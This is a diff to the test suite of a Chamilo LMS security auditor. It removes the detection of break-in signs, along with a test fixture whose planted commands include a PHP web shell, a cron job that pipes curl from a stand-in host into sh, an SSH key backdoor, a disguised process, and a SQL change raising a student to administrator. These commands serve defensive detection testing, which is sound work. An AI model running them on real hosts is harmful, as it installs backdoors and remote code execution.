@@ -32,7 +32,7 @@ chosen = tuple(options.pop("sections"))
 observer = Observer(discover(options.pop("domain")), options)
 began = time.monotonic()
 found = observe({{name: check for name, check in checks.items() if name.startswith(chosen)}}, observer)
-json.dump({{"seconds": time.monotonic() - began, "signs": monitoring.signs(observer) if "monitoring_" in chosen else [],
+json.dump({{"seconds": time.monotonic() - began,
            "found": {{name: [finding.status, finding.evidence] for name, finding in found.items()}}}}, sys.stdout)
 """
 
@@ -49,7 +49,6 @@ class Audit:
     status: Mapping[str, str]
     evidence: Mapping[str, str]
     seconds: float
-    signs: list[str]
 
 
 def audit(host: Host, *sections: str, user: str = "root", **options: Any) -> Audit:
@@ -62,7 +61,6 @@ def audit(host: Host, *sections: str, user: str = "root", **options: Any) -> Aud
         {name: status for name, (status, _evidence) in found.items()},
         {name: evidence for name, (_status, evidence) in found.items()},
         answer["seconds"],
-        answer["signs"],
     )
 
 
@@ -135,7 +133,7 @@ def test_a_sloppy_host_is_red_for_the_right_reasons(sloppy: Host) -> None:
         "brute_force_forgery": "not_applicable",
         "brute_force_friends": "not_applicable",
         "brute_force_interfaces": "not_applicable",  # since 3.0
-        "monitoring_compromise": "pass",
+        "monitoring_compromise": "not_assessed",  # nothing was listed there
     }
     password = sloppy.run("sed -n \"s/^DATABASE_PASSWORD='\\(.*\\)'$/\\1/p\" /var/www/chamilo/.env").stdout.strip()
     assert password and password not in json.dumps(dict(found.evidence))
@@ -373,36 +371,3 @@ def test_the_running_fail2ban(stage: Callable[..., Host]) -> None:
 
     host.run("systemctl stop fail2ban")
     assert "does not run" in audit(host, "brute_force").evidence["brute_force_fail2ban"]
-
-
-PLANTED = {
-    "PHP where only data belongs": "echo '<?php echo 1;' >/var/www/chamilo/var/upload/resource/x.php",
-    "PHP among assets": "echo '<?php echo 1;' >/var/www/chamilo/public/img/logo.php",
-    "a suspected web shell": "echo '<?php system($_GET[\"c\"]);' >/var/www/chamilo/public/main/inc.php",
-    "a cron job of the web user": "echo '* * * * * curl -s http://x.test/ | sh' | crontab -u www-data -",
-    "persistent access": "install -d /var/www/.ssh && echo ssh-ed25519 >/var/www/.ssh/authorized_keys",
-    "a process of the web user": (
-        "cp /bin/sleep /var/tmp/kworkerd && setsid runuser -u www-data /var/tmp/kworkerd 300 >/dev/null 2>&1 &"
-    ),
-    "pupils with an administrator's rights": (
-        "mariadb chamilo -e \"UPDATE user SET roles = REPLACE(REPLACE(roles, '12:\\\"ROLE_STUDENT',"
-        " '10:\\\"ROLE_ADMIN'), '\\\"ROLE_STUDENT\\\"', '\\\"ROLE_ADMIN\\\"') WHERE username = 'student07'\""
-    ),
-}
-
-
-def test_signs_of_a_break_in(sloppy: Host) -> None:
-    sloppy.run("mkdir -p /var/www/chamilo/var/upload/resource")
-    sloppy.wait("/login")
-    found = audit(sloppy, "monitoring")
-    assert found.status["monitoring_compromise"] == "pass", found.evidence["monitoring_compromise"]
-    assert found.signs == []
-    # An attacker takes the dump that lies under the web root.
-    assert sloppy.http("/dump.sql").status == 200
-    for command in PLANTED.values():
-        sloppy.run(command)
-    found = audit(sloppy, "monitoring")
-    assert found.status["monitoring_compromise"] == "fail"
-    desired = (*PLANTED, "a database dump answered a visitor once")
-    assert [words for words in desired if not any(sign.startswith(words) for sign in found.signs)] == []
-    assert len(found.signs) == len(desired)
